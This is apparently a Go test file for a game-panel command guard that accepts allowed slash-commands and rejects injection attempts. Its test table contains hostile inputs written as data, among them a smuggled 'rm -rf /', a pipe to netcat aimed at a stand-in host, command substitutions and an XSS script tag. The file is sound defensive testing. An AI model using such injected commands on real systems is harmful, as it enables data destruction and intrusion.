package guard

import (
	"strings"
	"testing"

	"gamepanel/internal/constants"
)

func TestCommandGuardValidate(t *testing.T) {
	g := NewCommandGuard(nil)

	tests := []struct {
		name string
		cmd  string
		rule string // empty = accepted
	}{
		{"simple kick", "/kick Alice", ""},
		{"say with text", "/say Server restarting in 5 minutes!", ""},
		{"time set", "/time set day", ""},
		{"gamemode", "/gamemode creative Steve", ""},
		{"bare verb", "/help", ""},

		{"injection after kick", "/kick Alice; rm -rf /", RuleForbiddenChar},
		{"missing slash", "kick Alice", RuleMissingSlash},
		{"unknown verb", "/op2 Alice", RuleUnknownVerb},
		{"verb is case sensitive", "/KICK Alice", RuleUnknownVerb},
		{"clean but unknown", "/rm file", RuleUnknownVerb},
		{"empty", "", RuleEmpty},
		{"whitespace", "   ", RuleEmpty},
		{"pipe", "/say hi | nc evil 1", RuleForbiddenChar},
		{"ampersand", "/say a && b", RuleForbiddenChar},
		{"backtick", "/say `id`", RuleForbiddenChar},
		{"dollar paren", "/say $(id)", RuleSubstitution},
		{"dollar brace", "/say ${HOME}", RuleSubstitution},
		{"bare dollar", "/say $HOME", RuleForbiddenChar},
		{"redirect", "/say hi > /tmp/x", RuleForbiddenChar},
		{"backslash", `/say a\b`, RuleForbiddenChar},
		{"brackets", "/tp @a[r=5] 0 0 0", RuleForbiddenChar},
		{"newline", "/say hi\n/stop", RuleControlChar},
		{"null byte", "/say hi\x00", RuleControlChar},
		{"too long", "/say " + strings.Repeat("a", constants.CommandMaxLength), RuleTooLong},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := g.Validate(tt.cmd)
			if tt.rule == "" {
				if err != nil {
					t.Fatalf("expected accepted, got %v", err)
				}
				return
			}
			rej, ok := AsRejection(err)
			if !ok {
				t.Fatalf("expected rejection %s, got %v", tt.rule, err)
			}
			if rej.Rule != tt.rule {
				t.Errorf("expected rule %s, got %s (%s)", tt.rule, rej.Rule, rej.Reason)
			}
			if rej.Guard != constants.GuardCommand {
				t.Errorf("unexpected guard %q", rej.Guard)
			}
		})
	}
}

func TestCommandGuardReasonDoesNotEchoPayload(t *testing.T) {
	g := NewCommandGuard(nil)
	payload := "/evilverb <script>alert(1)</script>"
	err := g.Validate(payload)
	if err == nil {
		t.Fatal("expected rejection")
	}
	if strings.Contains(err.Error(), "script") || strings.Contains(err.Error(), "evilverb") {
		t.Errorf("reason echoes payload: %q", err.Error())
	}
}

func TestCommandGuardAllowList(t *testing.T) {
	g := NewCommandGuard(nil)
	verbs := g.Verbs()
	if len(verbs) != len(constants.AllowedCommandVerbs) {
		t.Errorf("expected %d verbs, got %d", len(constants.AllowedCommandVerbs), len(verbs))
	}
	for _, v := range verbs {
		if err := g.Validate(v); err != nil {
			t.Errorf("allowed verb %s rejected: %v", v, err)
		}
	}

	custom := NewCommandGuard([]string{"/ping"})
	if err := custom.Validate("/ping"); err != nil {
		t.Errorf("custom verb rejected: %v", err)
	}
	if err := custom.Validate("/kick Alice"); err == nil {
		t.Error("verb outside custom list accepted")
	}
}
